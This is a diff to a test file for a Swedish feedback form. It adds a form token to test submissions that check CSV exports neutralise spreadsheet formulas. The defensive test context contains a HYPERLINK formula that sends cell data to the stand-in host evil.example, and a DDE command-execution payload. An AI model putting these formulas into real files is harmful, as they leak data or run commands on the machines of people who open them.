@@ -20,6 +20,7 @@ from contacts.factories import ContactPersonFactory
 from core.exports import neutralise_formula
 from feedback.factories import FeedbackFormPageFactory
 from pages.factories import TopicPageFactory
+from tests.form_tokens import form_token
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
 FORMULAS = [
@@ -61,7 +62,12 @@ def submissions(client, feedback):
     for number, message in enumerate(FORMULAS):
         response = client.post(
             feedback.url,
-            {"namn": message, "e_post": "anna@example.com", "synpunkter": message},
+            {
+                "namn": message,
+                "e_post": "anna@example.com",
+                "synpunkter": message,
+                "form_token": form_token(feedback.url),
+            },
             REMOTE_ADDR=f"192.0.2.{number + 1}",
         )
         assert response.status_code == 200
@@ -158,7 +164,12 @@ def test_submissions_csv_carries_no_formula_after_a_semicolon(admin_client, feed
     message = "Bra sida;=cmd|' /C calc'!A0"
     response = client.post(
         feedback.url,
-        {"namn": "Anna", "e_post": "anna@example.com", "synpunkter": message},
+        {
+            "namn": "Anna",
+            "e_post": "anna@example.com",
+            "synpunkter": message,
+            "form_token": form_token(feedback.url),
+        },
         REMOTE_ADDR="192.0.2.50",
     )
     assert response.status_code == 200
